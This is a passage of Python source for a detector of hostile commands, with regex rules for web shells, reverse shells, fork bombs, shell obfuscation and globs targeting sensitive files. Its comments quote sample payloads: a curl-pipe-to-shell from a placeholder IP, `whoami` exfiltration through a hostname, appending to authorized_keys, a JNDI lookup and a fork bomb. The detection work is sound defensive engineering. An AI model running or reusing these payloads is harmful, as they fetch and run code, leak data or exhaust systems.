        r"|\bimport\s+[\w{}\s,*]{1,200}\s+from\s+['\"]|\bexports\.[\w$]+\s*="
        # A line that declares a variable or a named function: a file's statements, not an
        # expression handed to an eval.
        r"|\n[ \t]*(?:(?:const|let|var)\s+[\w$]+\s*[=;,\n]|function\s*\*?\s*[\w$]+\s*\()"
        # A block that ends and one that goes on from it, an arrow function's: statements.
        r"|\n[ \t]*\}\s*(?:else\b|catch\s*\(\s*[\w$]*\s*\)\s*\{)|\)\s*=>\s*\{[ \t]*\n"
    )
)
_JS_NAMES: Final = frozenset((3010, 3020))


# In Python source (`PYTHON_SOURCE`): `exec(`, `getenv(`, `subprocess.Popen(`, `if line == b'…'`,
# and a process object's own `process.kill()`.
_PY_NAMES: Final = frozenset((3005, 3010, 3011, 3024))
# A Rust macro's definition: its metavariables are called as PHP's variables are
# (`fn $func_name() {…}`, `$func(&mut x)`).
_RUST_MACRO: Final = searchable(re.compile(r"\bmacro_rules!"))
_RUST_NAMES: Final = frozenset((3020,))
# Perl source, by a file's statements: a lexical declared (`my ($self, %args) = @_;`), a
# sub defined, a module used or a package declared, a method called on `$self`. Its
# `system('…')`, `${"name"}`, `$code->(…)` and `$cv (…)`, `if $_ == $max;` and `$x - 1`
# are the language's own, not PHP's, a shell's or cmd.exe's.
_PERL_STATEMENT: Final = searchable(
    re.compile(r"\bmy\s*(?:\(\s*)?[$@%][a-z_]\w*|\bsub\s+[a-z_]\w*\s*\{|\$self\s*->")
)
_PERL_HEADER: Final = (
    r"[ \t]*(?:use\s+(?:strict|warnings|[a-z]\w*(?:::\w+)+)\b|package\s+[a-z]\w*(?:::\w+)*)"
    r"[^;\n]{0,200};"
)
# (At the start, then from each line break: a `^` of re.M made `re` try every character.)
_PERL_FIRST_LINE: Final = re.compile(_PERL_HEADER)
_PERL_LINE: Final = re.compile("\n" + _PERL_HEADER)


def _perl_source(lower: str) -> bool:
    """Whether `lower` holds a statement only a Perl file has (`_PERL_STATEMENT`,
    `_PERL_HEADER`)."""
    return bool(
        _PERL_STATEMENT.search(lower) or _PERL_FIRST_LINE.match(lower) or _PERL_LINE.search(lower)
    )


_PERL_NAMES: Final = frozenset((3005, 3016, 3017, 3020, 3024))
# PHP of a file: a namespace declared or a class imported from one, a method with its
# visibility, a docblock's tags, an object's own members (`$this->`), a method called on
# a variable, a closure's captures or a static one, a class's name as a constant, a loop
# over a variable's elements, and a block that goes on from a line's start (`} elseif
# (…)`, `} catch (Exception $e)`). A payload runs a function; it declares
# no namespace nor a class's methods, nor is it lines of a class's code.
_PHP_SOURCE: Final = searchable(
    re.compile(
        r"\bnamespace\s+[a-z_][\w\\]*\s*;|\b(?:public|private|protected)\s+(?:static\s+)?"
        r"function\s+&?\w+\s*\(|\*[ \t]+@(?:param|return|throws|var)\b"
        r"|\$this->[a-z_]|\$[a-z_]\w*->[a-z_]\w*\s*\(|\bfunction\s*\([^()\n]{0,200}\)\s*use\s*\("
        r"|\bstatic\s+(?:function|fn)\s*\(|::class\b"
        r"|\n[ \t]*use\s+[a-z_]\w*(?:\\\w+)+(?:\s+as\s+\w+)?\s*;"
        r"|\bforeach\s*\([^\n]{1,200}?\bas\s+&?\$"
        r"|\n[ \t]*\}\s*(?:elseif\b|catch\s*\(\s*\\?[a-z_][\w\\|]*\s+\$)"
    )
)
# Its `system('…')`, `exec('…')` and `eval('…')` are its own calls, as Perl's and Ruby's.
_PHP_NAMES: Final = frozenset((3005, 3011, 3020))
# ...but for a call that runs what the request sends (`_request_run`): the request's
# values, and a variable set from them or a loop's over them.
_RUN_CALL: Final = searchable(
    re.compile(
        rf"\b(?:{_RUNNING_CALLS})\s*\(\s*@?[^;\n]{{0,200}}"
        r"|\b(?:include|require)(?:_once)?\b\s*\(?\s*@?[^;\n]{0,200}|`[^`\n]{1,200}`"
    )
)
_REQUEST_VALUES: Final = re.compile(_REQUEST_VALUE)
_VARIABLE: Final = re.compile(r"\$([a-z_]\w*)")
_FROM_REQUEST: Final = re.compile(
    r"\$([a-z_]\w*)\s*=\s*[^;\n]{0,80}?"
    + _REQUEST_VALUE
    + r"|\bforeach\s*\(\s*"
    + _REQUEST_VALUE
    + r"(?:\[[^\]\n]{0,40}\])?\s+as\s+(?:\$\w+\s*=>\s*)?\$([a-z_]\w*)"
)


def _request_run(lower: str) -> Match | None:
    """In PHP's source, whose calls are its own (`_PHP_NAMES`), a call that runs what the
    request sends (`_RUN_CALL`; a file included, a command in backquotes): given it,
    `system($_GET['c'])`, or a variable set from it before, `$c = $_GET['c']; …
    system($c);`, as a loop's over it: a web shell, whatever code is around it
    (`$this->`, a class, a loop)."""
    tainted = {found.group(1) or found.group(2) for found in _FROM_REQUEST.finditer(lower)}
    for call in _RUN_CALL.finditer(lower):
        argument = call.group()
        if _REQUEST_VALUES.search(argument) or any(
            variable.group(1) in tainted for variable in _VARIABLE.finditer(argument)
        ):
            return Match(R_WEB_SHELL, call.start(), call.end())
    return None


# Ruby source shown whole, a document of it: a method defined on a line of its own with no
# colon after it (Python's has one), a module opened, attributes declared, a block's
# parameters. Its `system("bin/rails db:migrate")`, `eval(code, binding)`, `IO.popen` and
# `Open3.capture2e` are its own calls. (A document only, as Python's: a few lines defining
# and calling a method are what an endpoint that runs code is sent.)
_RUBY_SOURCE: Final = searchable(
    re.compile(
        r"\n[ \t]*def[ \t]+(?:self\.)?[a-z_]\w*[?!=]?(?:\([^()\n]{0,200}\))?[ \t]*(?:#[^\n]*)?\n"
        r"|\n[ \t]*module[ \t]+[a-z]\w*(?:::[a-z]\w*)*[ \t]*\n"
        r"|\battr_(?:reader|writer|accessor)[ \t]+:[a-z_]"
        r"|\bdo[ \t]*\|[ \t]*[a-z_]\w*(?:[ \t]*,[ \t]*[a-z_]\w*)*[ \t]*\|"
    )
)
_RUBY_NAMES: Final = frozenset((3005, 3011))
# A Python traceback: its frames quote the lines of source they ran
# (`    output = subprocess.check_output([…])` under `  File "/app/worker.py", line 88`).
_PY_TRACEBACK: Final = re.compile(r"\n[ \t]*file \"[^\"\n]{1,300}\", line \d+, in [\w<>.]+[ \t]*\n")
# An interactive session's transcript, a docstring's example: a line opened by Python's
# prompt, which no language runs (`>>> subprocess.getoutput('ls /bin/ls')`).
_PY_SESSION: Final = re.compile(r"^[ \t]*>>> ", re.M)
# The languages a document may be source of, by what marks it and the rules it is exempt
# from. A file may be two (JSDoc opens as Javadoc does).
_SOURCES: Final[tuple[tuple[Callable[[str], object], frozenset[int]], ...]] = (
    (_JAVA_SOURCE.search, _JAVA_NAMES),
    (_JS_SOURCE.search, _JS_NAMES),
    (PYTHON_SOURCE.search, _PY_NAMES),
    (_RUST_MACRO.search, _RUST_NAMES),
    (_perl_source, _PERL_NAMES),
    (_PHP_SOURCE.search, _PHP_NAMES),
    (_RUBY_SOURCE.search, _RUBY_NAMES),
    (_PY_TRACEBACK.search, _PY_NAMES),
    (_PY_SESSION.search, _PY_NAMES),
)
# Those a snippet of a few lines too short to be a document may be source of, marked as
# only a file's statements are (declarations, imports, blocks that go on: `} catch (e) {`).
# Not Python nor Ruby: a few lines of it, a function defined and called (`def run(cmd):
# os.system(cmd)`, then `run('id')`), are what an endpoint that runs code is sent.
_SNIPPET_SOURCES: Final = tuple(
    (source, names)
    for source, names in _SOURCES
    if source not in (PYTHON_SOURCE.search, _RUBY_SOURCE.search)
)


def _without(
    ids: frozenset[int], rules: RuleSet = _DOCUMENT_RULES, code_only: RuleSet = _DOCUMENT_CODE_ONLY
) -> tuple[RuleSet, RuleSet]:
    """Rules and code-only rules (a document's by default), but those in `ids`."""
    return (
        RuleSet(*(r for r in rules.rules if r.id not in ids)),
        RuleSet(*(r for r in code_only.rules if r.id not in ids)),
    )


# By the rules a document's languages exempt it from, for each set of its languages.
_SOURCE_RULES: Final = {
    ids: _without(ids)
    for ids in (
        frozenset().union(*(names for _, names in chosen))
        for size in range(1, len(_SOURCES) + 1)
        for chosen in combinations(_SOURCES, size)
    )
}
# A crash report's value that is no document (`_THROWN`, `_JAVA_TRACE`), a value whose
# place names a package, not a class to make (`_PACKAGE_POINT`), and an import or a
# library's coordinates (`_JAVA_DECLARATION`): a value's rules but the Java names'.
_NO_JAVA_NAMES: Final = _without(_JAVA_NAMES, _CODE_RULES, _CODE_ONLY_RULES)
# Nor those of Java's or Node.js's names in a value of words and names alone (a search:
# "child_process.exec vs spawn", "ProcessBuilder redirect output"), which calls nothing;
# one name alone (`java.lang.ProcessBuilder`, a type a deserialiser is told) counts, and
# so do a parameter's names (`constructor.prototype. x=1` pollutes a prototype).
_NO_NAMES: Final = _without(_JAVA_NAMES | _JS_NAMES, _CODE_RULES, _CODE_ONLY_RULES)
# Maven's coordinates (a POM's `<groupId>org.apache.commons</groupId>`, deployed to a
# repository; a CycloneDX bill of materials' component `group` and `bom-ref`), a logger's
# name, which is its package's (`{"logger": "org.springframework.web"}`, a `loggers`
# object's keys), XML's namespaces and schema locations (Spring's
# `xmlns="http://www.springframework.org/schema/beans"`).
_PACKAGE_POINT: Final = re.compile(
    r"\.(?:groupId|artifactId|group|bom-ref|logger(?:_?name)?|loggers\.[\w.$-]+\.@key"
    r"|@xmlns(?::[\w.-]+)?|@xsi:(?:noNamespaceS|s)chemaLocation)$"
)
# curl/8.5.0, Wget/1.21, python-requests/2.31: ordinary HTTP clients, not commands. The
# whole value, products with their versions and the comments after them (`Wget/1.21
# (linux-gnu)`), or one name: a value that only starts so may carry anything after it
# (`Mozilla/5.0 ${jndi:…}`), and words without versions are a command (`env --version`).
_CLIENT_AGENT: Final = re.compile(
    r"(?:[\w.-]+/[\w.+-]+(?:\s*\([^()$`|&<>{}]{0,300}\))*(?:\s+|$)){1,12}"
    r"|[\w.-]+(?:\s*\([^()$`|&<>{}]{0,300}\))?\s*"
)
_FILE_POINT: Final = re.compile(r"filename|header\.X[-_.]?FILE[-_.]?NAME", re.I)
# A command's name spelled so that only a shell reads it: c''at, c"a"t, c\at, ca$@t.
_SPELLED_FOR_A_SHELL: Final = re.compile(r"\s*[^\s'\"\\$`{]*(?:\s|$)")


def _searched(view: View, lower: str) -> bool:
    """Whether `lower`, a command line, was typed into a search box (`search_box`, or a
    path's segment after a search's, `View.search`): its first word is as a person writes
    a command's name, not spelled for a shell, and it redirects nothing to or from a file
    (`echo … >> ~/.ssh/authorized_keys` writes one)."""
    return (
        (view.search or search_box(view.point))
        and _SPELLED_FOR_A_SHELL.match(lower) is not None
        and ">" not in lower
        and "<" not in lower
    )


# Bash's ANSI-C quoting: $'\x77\x68o' is `who`, in hex, octal or Unicode escapes.
_ANSI_C: Final = re.compile(r"\$'((?:\\.|[^'\\]){0,200})'")
_ANSI_ESCAPE: Final = re.compile(r"\\(x[0-9a-f]{1,2}|u[0-9a-f]{1,4}|[0-7]{1,3}|.)", re.S)
_ANSI_NAMED: Final = {
    "n": "\n",
    "t": "\t",
    "r": "\r",
    "v": "\v",
    "f": "\f",
    "\\": "\\",
    "'": "'",
    '"': '"',
}


def _ansi_c(quoted: re.Match[str]) -> str:
    """The text an ANSI-C quoted string stands for, lower-cased as what it replaces."""
    return _ANSI_ESCAPE.sub(_ansi_escape, quoted.group(1)).lower()


def _ansi_escape(escape: re.Match[str]) -> str:
    code = escape.group(1)
    if code[0] in "xu" and len(code) > 1:
        return chr(int(code[1:], 16))
    if code[0] in "01234567":
        return chr(int(code, 8) & 0xFF)
    return _ANSI_NAMED.get(code, "\\" + code)  # bash keeps an escape it does not know


# A URL whose scheme joins two with `+` (git+https://, svn+ssh://): not spaces in a command.
_PLUS_SCHEME: Final = re.compile(r"[a-z][a-z0-9.-]*\+[a-z][a-z0-9.+-]*://")
# A regular expression's class repeated (`\w+`, `\d+`, `\s+`): its `+` are quantifiers, no
# form-encoded spaces (a schema's `^(\w+\:\/\/[\w.-]+)|(…)` ran `w` in a subshell).
_REGEX_REPEAT: Final = re.compile(r"\\[wds]\+")


def shell_normalize(lower: str) -> str:
    """Fold the obfuscations a shell ignores: quotes inside words, backslashes before
    letters, unset or special variables, ${IFS}, bracket globs of one character, cmd's
    carets inside words. HTML character references go first: their `&` and `;` are not
    shell separators."""
    if not _OBFUSCATION.search(lower):
        return lower
    text = _ENTITY_REF.sub(" ", lower) if "&" in lower else lower
    if "$'" in text:
        text = _ANSI_C.sub(_ansi_c, text)
    text = _IFS_SPACE.sub(" ", text) if "ifs" in text else text
    text = _EMPTY_SUBSTITUTION.sub("", text)
    text = _EMPTY_VARS.sub("", text)
    if ":\\" in text:
        text = _BACKSLASH.sub(_backslash_dropped, text)
    elif "\\" in text:
        text = _DROPPED_BACKSLASH.sub("", text)
    if "^" in text:
        text = _CARET.sub("", text)
    text = _QUOTED_WORD.sub(r"\2", text)
    text = _QUOTES.sub("", text)
    if "[" in text:
        text = _BRACKET_GLOB.sub("?", text)
    if (
        " " not in text
        and "+" in text
        and not _PLUS_SCHEME.match(text)
        and not _REGEX_REPEAT.search(lower)
    ):
        text = text.replace("+", " ")  # a form-encoded space that was never decoded
    return text


def _glob_matches(glob: str, target: str) -> bool:
    """Whether `glob` matches `target` as fnmatch's `*` and `?` do (the only wildcards
    `_GLOB_PATH` lets in): a star given back one character at a time, no pattern compiled
    (fnmatch compiled one for each of 4,500 distinct globs in 64 KB: 90 ms)."""
    at = char = 0
    star = mark = -1
    while char < len(target):
        if at < len(glob) and glob[at] in ("?", target[char]):
            at += 1
            char += 1
        elif at < len(glob) and glob[at] == "*":
            star, mark = at, char
            at += 1
        elif star >= 0:
            mark += 1
            at, char = star + 1, mark
        else:
            return False
    while at < len(glob) and glob[at] == "*":
        at += 1
    return at == len(glob)


def _glob_target(text: str) -> Match | None:
    """A wildcard path that a shell would expand to a well-known sensitive file. Each
    distinct glob is tried once, and only one short enough to match a target: a 64 KB
    glob matched against each target took a third of a second."""
    tried: set[str] = set()
    for found in _GLOB_PATH.finditer(text):
        glob = found.group(0)
        if glob in tried or len(glob) - glob.count("*") > _LONGEST_TARGET:
            continue
        tried.add(glob)
        if glob.count("/") < 2 or sum(c.isalnum() for c in glob) < 2 or "//" in glob:
            continue  # */* in an Accept header, a URL, is no path
        if text[found.end() : found.end() + 1] == "=":
            continue  # /page?id=2: a query string
        # What precedes the first wildcard (a glob has one) starts the target, and what
        # follows the last star ends it: most globs are told by these alone (SQL's
        # comments read as globs, /**/select/**/1, were matched star by star).
        head = glob[: min(at for at in (glob.find("*"), glob.find("?")) if at >= 0)]
        foot = glob[glob.rfind("*") + 1 :] if "*" in glob else ""
        foot = "" if "?" in foot else foot
        if any(
            target.startswith(head) and target.endswith(foot) and _glob_matches(glob, target)
            for target in _GLOB_TARGETS
        ):
            return Match(R_GLOB, found.start(), found.end())
    return None


# :(){ :|:& };:  f(){ f & f; };f  f(){ f() | f(); }: the body calls itself twice.
_FORK_BOMB: Final = re.compile(r"([\w:.]{1,12})\s*\(\s*\)\s*\{\s*\1(?:\s*\(\s*\))?\s*[|&]\s*\1")
_DEFINITION: Final = re.compile(r"\(\s*\)\s*\{")
_NAME_LENGTH: Final = 12


def _comment_calls(text: str) -> Iterator[tuple[int, int]]:
    """Where a comment sits between a name and its call (`exec/**/(`, `system#x\n(`) or
    opens a call's arguments (`(/**/`): the comment's span, and the call's parenthesis.
    Looked for from where comments open: a pattern starting with the character before a
    comment, a word character, was tried at nearly every position of a long text (2.3 ms
    for a 64 KB Python module, 0.5 now), and only after a character that may come before
    one, or a blank (64 KB of dots and slashes opened 43,000 comments after none)."""
    for opening in _COMMENT_OPENING.finditer(text):
        start = opening.start()
        before = nonblank_before(text, start)
        if before < 0:
            continue
        char = text[before]
        if char == "(":
            found = _CODE_COMMENT.match(text, start)
        elif word_char(char) or char in ")]":
            found = _COMMENT_THEN_CALL.match(text, start)
        else:
            continue
        if found:
            yield start, found.end()


def _uncommented(text: str) -> str | None:
    """`text` without its comments, for a comment in a call (`_comment_calls`) to hide
    nothing; None when no call holds one. Of a long text, only the lines around those
    calls: a 64 KB Python module, whose `# type: ignore` in a call was the only one, had
    its every comment dropped and was looked at again whole."""
    if len(text) < NEAR_MIN:
        for _ in _comment_calls(text):
            return _CODE_COMMENT.sub("", text)
        return None
    spans = list(_comment_calls(text))
    if not spans:
        return None
    runs = lines_around(text, spans)
    if runs is None:
        return _CODE_COMMENT.sub("", text)
    return "\n".join(_CODE_COMMENT.sub("", run) for run in runs)


# A reverse shell written in a language, over lines or not (Node.js's net.Socket piped to
# spawn('/bin/sh'), Python's dup2 of a socket before pty.spawn, Java's ProcessBuilder and
# Socket): a shell started, a socket opened and streams handed over, all three. Node's
# manual spawns `sh` and opens sockets, but not in one example with streams between them.
# (Searched from their literals, `searchable`: a leading `\b` had `re` try every
# alternative at each character of a long text.)
_SOCKET_OPENED: Final = searchable(
    re.compile(
        r"\bnet\.socket\b|\bsocket\.socket\s*\(|\btcpsocket\b|\bnew\s+socket\s*\("
        r"|\bnet\.(?:dial|connect|createconnection)\s*\(|\bfsockopen\s*\(|\btcpclient\s*\("
    )
)
_SHELL_STARTED: Final = searchable(
    re.compile(
        r"(?:\bspawn\w*|\bexec\w*|\bpopen|\bcall|\brun|\bcommand|\bprocessbuilder"
        r"|\bprocess\.new)\s*\(\s*\[?\s*['\"](?:/(?:usr/)?bin/)?(?:ba|z|k|da)?sh['\"\s]"
        r"|['\"]cmd(?:\.exe)?['\"]"
    )
)
_STREAMS_GIVEN: Final = searchable(
    re.compile(
        r"\.pipe\s*\(|\bdup2\s*\(|\bstd(?:in|out)\s*=|redirecterrorstream"
        r"|get(?:in|out)putstream|<&\s*\d|>&\s*\d"
    )
)
_REVERSE_REACH: Final = 2048  # how far apart the three may be


def _reverse_shell(text: str) -> Match | None:
    """A shell started near a socket opened and streams handed over (`_SOCKET_OPENED`)."""
    for socket in _SOCKET_OPENED.finditer(text):
        start = max(socket.start() - _REVERSE_REACH, 0)
        end = socket.end() + _REVERSE_REACH
        if _SHELL_STARTED.search(text, start, end) and _STREAMS_GIVEN.search(text, start, end):
            return Match(R_REVERSE, socket.start(), min(socket.end() + 40, len(text)))
    return None


def _fork_bomb(text: str) -> Match | None:
    """_FORK_BOMB, tried only where a function is defined: searched whole, its name group
    ran up to twelve characters from every position of a long text (12 ms for 64 KB)."""
    for definition in _DEFINITION.finditer(text) if "{" in text else ():
        name_end = definition.start()
        while name_end and text[name_end - 1].isspace():
            name_end -= 1
        for start in range(max(name_end - _NAME_LENGTH, 0), name_end):
            found = _FORK_BOMB.match(text, start)
            if found:
                return Match(R_FORK, found.start(), found.end())
    return None


_BLANKS_LOOKED_PAST: Final = 200
_ALONE_ON_ITS_LINE: Final = re.compile(r"[ \t]*(?:[\r\n]|$)")


def _continues(text: str, at: int, past_blanks: bool) -> bool:
    """Whether a shell runs what follows the line break at `at` as a command: after &&,
    || or | it reads on into the next line (&&%0awhoami); after a line of nothing but
    separators (;%0aid) the line is no sentence. Only the line before is read, so that
    the lines of a long text cost what they hold; with `past_blanks` (the command is an
    English word, alone on its line), blank lines are looked past too, within
    `_BLANKS_LOOKED_PAST` characters, to the line of text they follow: a heading, a blank
    line, then a list's word ("Subjects:", then "history") is text."""
    end = at
    while True:
        start = text.rfind("\n", 0, end) + 1
        line = text[start:end].rstrip(" \t\r")
        if line or not past_blanks or start == 0 or at - start > _BLANKS_LOOKED_PAST:
            return line.endswith(_CONTINUED) or not line.strip(" \t;&|")
        end = start - 1  # a blank line: the one before it


# A Dockerfile: its base image, its first instruction as Docker requires (after comments,
# blank lines and `ARG`s: `FROM python:3.11-slim`, `FROM node:20 AS build`), and its `RUN`
# instructions, whose commands build the image, on the lines a backslash continues too
# (`RUN apt-get update \` then `    && apt-get install -y curl`). A shell would run `RUN`,
# a command no system has, and `&&` nothing after it.
_DOCKERFILE_HEAD: Final = (
    r"(?:[ \t]*(?:#[^\n]*|arg[ \t][^\n]*)?\n)*"
    r"[ \t]*from[ \t]+(?:--platform=\S+[ \t]+)?[\w./:@${}-]+(?:[ \t]+as[ \t]+[\w.-]+)?[ \t]*$"
)
_DOCKERFILE_FROM: Final = re.compile(_DOCKERFILE_HEAD, re.M)
# ...or one in a Markdown fence, a comment's or an answer's.
_FENCED_DOCKERFILE: Final = re.compile(r"^[ \t]*(?:```|~~~)[^\n]*\n" + _DOCKERFILE_HEAD, re.M)
_RUN_INSTRUCTION: Final = re.compile(r"^[ \t]*run[ \t]+", re.M)
_CONTINUED_LINES: Final = 50  # lines a backslash may join to an instruction


def _run_instructions(text: str) -> list[tuple[int, int]]:
    """The spans of a Dockerfile's `RUN` instructions (`_DOCKERFILE_FROM`), each with the
    lines a backslash at their end joins to it, a few at most; none in any other text.
    Found once for a text, each line read once."""
    if "\n" not in text or "run" not in text:
        return []
    fenced = ("```" in text or "~~~" in text) and _FENCED_DOCKERFILE.search(text) is not None
    if not fenced and _DOCKERFILE_FROM.match(text) is None:
        return []
    spans: list[tuple[int, int]] = []
    for run in _RUN_INSTRUCTION.finditer(text):
        if spans and run.start() < spans[-1][1]:
            continue  # a line the one before continues
        end = run.end()
        for _ in range(_CONTINUED_LINES):
            line_end = text.find("\n", end)
            if line_end < 0:
                end = len(text)
                break
            end = line_end
            if not text[max(line_end - 80, run.start()) : line_end].rstrip(" \t").endswith("\\"):
                break
            end = line_end + 1
        spans.append((run.start(), end))
    return spans


def _within_spans(spans: list[tuple[int, int]], at: int) -> bool:
    """Whether `at` is in one of `spans` (sorted, apart)."""
    index = bisect_left(spans, (at + 1, 0)) - 1  # the last span starting at `at` or before
    return index >= 0 and at < spans[index][1]


# A placeholder in a command line that documentation writes (`<pod>`, `<pattern>`, in any
# language), closing the line or before a pipe or another placeholder: a shell reads its
# `>` as a redirection to nothing, a syntax error that runs no part of the line.
_PLACEHOLDER_REDIRECT: Final = re.compile(r"<[^\W\d][\w.-]*>(?:[ \t]*$|[ \t]+[|<])", re.M)
# A console session shown in a document: a line that starts with the shell's prompt
# (`$ make && make install`), in HTML after the tags that open its block (`<pre><code>$ …`).
# A shell would run `$`, a command no system has.
_PROMPT: Final = re.compile(
    r"[ \t]*(?:(?:#|//)[ \t]*)?(?:<[a-z][^<>\n]{0,100}>[ \t]*)*[$%][ \t]+[a-z./]"
)
# An example's command line, indented as a manual indents its examples (`     find . -print0
# | xargs -0 grep -l thing`), which its pipes and lists belong to.
_SHOWN_COMMAND: Final = re.compile(r"[ \t]+" + _COMMAND_NAME + r"[ \t]+\S")
# Markdown's inline code in a short sentence: "The `id` field is required". Spans open
# after a space and close before one, or next to the letters and punctuation of a script
# written without spaces or with its particles glued on ("请运行 `ls -la` 查看。", "`npm
# start`를 실행하세요."); outside them, words of any script and no shell syntax. A stop
# after a span ends a sentence or a clause, not a name it is glued into: `` `whoami`.evil.com ``
# is a host named by a substitution; so does a semicolon and a blank ("I ran `ls -la`;
# nothing there").
# (The backtick first, then what is before it: for `re` to skip from one to the next.)
_UNSPACED: Final = "\u3000-\u9fff\uac00-\ud7af\uff00-\uffef"
_CODE_SPAN: Final = re.compile(
    rf"`(?<![^\s({_UNSPACED}]`)[^`\n]{{1,200}}`(?:;(?=[ \t]))?(?=[\s{_UNSPACED}]|[.,:!?)](?!\w)|$)"
)
_SHELL_SYNTAX: Final = re.compile(r"[;|&$<>`\n\\]")
# Slack's markup in a message: a mention (`<@U024BE7LH>`, `<!here>`, `<#C024BE7LR|general>`,
# `<!subteam^SAZ94GDB8|@oncall>`) or a link with its label (`<https://x.example/a|the
# runbook>`), which a shell would read as redirections and a pipe.
_CHAT_ENTITY: Final = re.compile(
    r"<(?:(?:https?|mailto|tel):[^\s<>|]{1,500}|[@#!][\w^{}-]{1,80})(?:\|[^<>\n]{0,200})?>"
)
_UNSPACED_LETTERS: Final = re.compile(r"[\u3040-\u9fff\uac00-\ud7af]")
# ...and rich text's phrasing markup around its words (a message's `<b>%s</b>`), which a
# shell would read as redirections.
_INLINE_TAG: Final = re.compile(
    r"</?(?:a|b|i|u|s|em|strong|span|kbd|small|sup|sub|mark|br|p)\b[^<>\n]{0,200}>"
)
_SENTENCE_ENDS: Final = (".", "!", "?", "\u3002", "\uff01", "\uff1f")
# ...or as a chat's line does, with an emoji ("ran `docker ps` and 👍").
_EMOJI_END: Final = re.compile(r"[\u2600-\u27bf\U0001f300-\U0001faff][\ufe0f\s]*$")


def _inline_code(text: str, spanned: re.Pattern[str] = _CODE_SPAN, mark: str = "`") -> bool:
    """Whether the backquotes of `text` are Markdown's inline code in sentences: on each
    line with a span, three words outside the spans, or one where the line ends as a
    sentence or a chat's line does ("Run `npm start`.", "Try `git pull` first.", under a
    README's heading; "ran `docker ps` and 👍"), or a chat's words only (`_said`: "try
    `npm ci` instead"). With `spanned` and its `mark`, another markup's inline code
    (`_MONOSPACE_SPAN`)."""
    if mark not in text:
        return False
    for line in text.split("\n"):
        spans = mark in line
        outside = spanned.sub(" ", line) if spans else line
        if "<" in outside:
            outside = _INLINE_TAG.sub(" ", _CHAT_ENTITY.sub(" ", outside))
        if _SHELL_SYNTAX.search(outside):
            return False
        if spans:
            found = PLAIN_WORD.findall(outside)
            # (A script written without spaces, or with its particles glued on, counts
            # its words by its characters, two to a word: "설치하려면 … 실행하세요" is a
            # sentence. Counted, as the rest, only for a line of fewer words.)
            if (
                len(found) < 3
                and len(_UNSPACED_LETTERS.findall(outside)) < 6
                and not (
                    found
                    and (
                        line.rstrip().endswith(_SENTENCE_ENDS)
                        or _EMOJI_END.search(line)
                        or _said(found, spanned.findall(line))
                    )
                )
            ):
                return False
    return True


# The words a developer's chat or a commit's message puts around a command in inline code,
# fewer than a sentence's: "try `npm ci` instead", "run `git fetch` first", "fixed by `rm
# -rf node_modules`". Not around a probe's command (`_SAID_PROBES`): "run `id` first".
_CHAT_WORDS: Final = frozenset(
    words(
        "run rerun try use using see check fix fixed by via with then first instead need "
        "needs just ok done and or also please maybe now again locally after before works "
        "fails failing broken like not"
    )
)
_SAID_PROBES: Final = _RECON | frozenset(
    words(
        "id uname cat sleep ping nc ncat socat telnet curl wget nslookup dig bash sh python "
        "perl php ruby env ls powershell pwsh certutil bitsadmin"
    )
)


def _said(outside: list[str], spans: list[str]) -> bool:
    """Whether the words `outside` a line's inline code are all a chat's (`_CHAT_WORDS`)
    and no span of it runs a probe's command."""
    if not all(word.lower() in _CHAT_WORDS for word in outside):
        return False
    for span in spans:
        command = span.strip("`;").split()
        if command and command[0].lower() in _SAID_PROBES:
            return False
    return True


def _inline_pipes_blanked(text: str) -> str:
    """`text` with the pipes in its Markdown inline code blanked (`_inline_code`), or in
    Jira's and Confluence's monospace (`{{curl … | sh}}`) in sentences, or as it is; the
    same length."""
    if _inline_code(text):
        text = _CODE_SPAN.sub(_pipes_blanked, text)
    if "{{" in text and _inline_code(text, _MONOSPACE_SPAN, "{{"):
        text = _MONOSPACE_SPAN.sub(_pipes_blanked, text)
    return text


def _pipes_blanked(span: re.Match[str]) -> str:
    """A span's pipes blanked where it is one pipeline shown (`_SHOWN_PIPELINE`)."""
    shown = span.group(0)
    return shown.replace("|", " ") if _SHOWN_PIPELINE.fullmatch(shown) else shown


# Jira's and Confluence's wiki markup for monospace, inline: "run {{kubectl get pods}}".
_MONOSPACE_SPAN: Final = re.compile(r"\{\{[^{}\n]{1,200}\}\}")
# A span that is one pipeline shown, opening with a program's name: `curl -fsSL URL | sh`,
# {{curl -fsSL URL | sh}}, not a value with a separator before it
# (`a;curl http://203.0.113.5/x.sh|sh`).
_SHOWN_PIPELINE: Final = re.compile(
    r"`[a-z][\w.-]*[ \t][^`;&$\n]*`;?|\{\{[a-z][\w.-]*[ \t][^{}`;&$\n]*\}\}"
)


# Markdown's inline code in a document, wrapped over a line break or not: "the npm CLI's
# `npm\nteam` command". Opened after a blank or a bracket, closed before one or a stop.
_DOCUMENT_SPAN: Final = re.compile(r"`[^`\n]{1,60}(?:\n[^`\n]{1,60})?`(?=[\s.,:;!?)\]]|$)")


def _document_span(text: str, at: int) -> bool:
    """Whether the backquote at `at` of a document opens Markdown's inline code."""
    return (at == 0 or text[at - 1] in " \t\n([") and _DOCUMENT_SPAN.match(text, at) is not None


def _gnu_quoted(text: str, at: int) -> bool:
    """Whether the backquote at `at` opens a quotation in the GNU style, closed by an
    apostrophe (`mount -a', `adduser' configuration): what would be substituted, up to the
    next backquote on its line, holds an odd number of apostrophes and no double quote
    that could hold one, and no shell runs it."""
    end = len(text)
    for stop in (text.find("`", at + 1), text.find("\n", at + 1)):
        if 0 <= stop < end:
            end = stop
    body = text[at + 1 : end]
    return body.count("'") % 2 == 1 and '"' not in body


# Filters a pipe feeds that, given no path, read no file and run nothing: a log search's
# stages (Splunk's `… | stats count by uri | sort -count | head 10`). Their arguments:
# options and words, no path, variable, substitution, redirection or glob.
_FILTERS: Final = frozenset(
    ("sort", "head", "tail", "uniq", "wc", "cut", "tr", "rev", "tac", "nl", "fmt", "fold")
)
_FILTER_ARGUMENTS: Final = re.compile(
    r"(?:[ \t]+(?:[\w:,=+-]+|'[\w \t:,=+-]*'|\"[\w \t:,=+-]*\"))*[ \t]*(?:[|;&\n]|$)"
)
# Where a pattern's group of alternatives opens (`_regex_group`).
_GROUP_OPENED: Final = re.compile(r"(?<![$<>])\(\?|(?<=[./^)\[\]\w+*?])\(|\[\[")
# A regular expression's named group, opened before a group of its own (Python's
# `(?P<pre_l>(a|b|rc))`, PCRE's and .NET's `(?<year>(19|20))`): its `>(` substitutes
# nothing.
_NAMED_GROUP: Final = re.compile(r"\(\?[pP]?<[a-zA-Z_]\w{0,60}>$")
# What `(` after them opens: a substitution (`$(`, `<(`, `>(`, zsh's `=(`).
_SUBSTITUTING: Final = ("$", "<", ">", "=")
# What may follow a subshell's `)`: a shell reads anything else as a syntax error.
_AFTER_SUBSHELL: Final = frozenset(")|;&<>'\"` \t\n")
